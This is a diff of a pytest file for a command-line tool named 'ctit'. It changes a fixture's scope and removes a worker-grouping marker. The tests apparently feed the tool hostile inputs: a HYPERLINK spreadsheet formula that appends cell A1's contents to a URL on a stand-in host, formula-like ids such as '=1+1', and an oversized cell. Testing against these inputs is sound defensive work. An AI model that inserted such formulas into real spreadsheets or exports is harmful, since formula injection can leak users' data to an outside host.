@@ -14,10 +14,6 @@ from typer.testing import CliRunner
 
 from ctit.cli import app
 
-# One worker runs the module, and its slow fixture is built once for the session (not
-# again whenever the worker comes back to the module).
-pytestmark = pytest.mark.xdist_group("safe_text")
-
 runner = CliRunner()
 EXAMPLE = Path(str(resources.files("ctit").joinpath("examples", "atra-ctit")))
 HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
@@ -36,7 +32,7 @@ def _rename(study: Path, old: str, new: str) -> None:
         _edit(study, table, lambda rows: [r.__setitem__(0, new) for r in rows[1:] if r and r[0] == old])
 
 
-@pytest.fixture(scope="session")
+@pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     """The example study with hostile text: ids '$$' and '=1+1', formula and markup in a text
     field, a 200,000-character cell."""
